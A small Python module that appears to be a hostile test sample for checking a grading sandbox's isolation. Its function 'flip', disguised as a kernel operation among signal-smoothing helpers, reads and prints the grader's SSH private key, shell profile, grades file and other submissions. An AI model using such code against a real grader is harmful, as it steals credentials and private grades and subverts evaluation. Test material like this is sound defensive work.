"""Prints private files of whoever grades: keys, settings, the list of grades.

Stopped by: the home and the working folder of the judge cannot be read from where the worker runs.
"""

import glob


def flip(kernel):
    for path in ["@HOME@/.ssh/id_ed25519", "@HOME@/.profile", "@DESK@/grades.csv", *glob.glob("@CLASS@/*/*.py")]:
        try:
            with open(path) as file:
                print(file.read())
        except OSError:
            continue
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
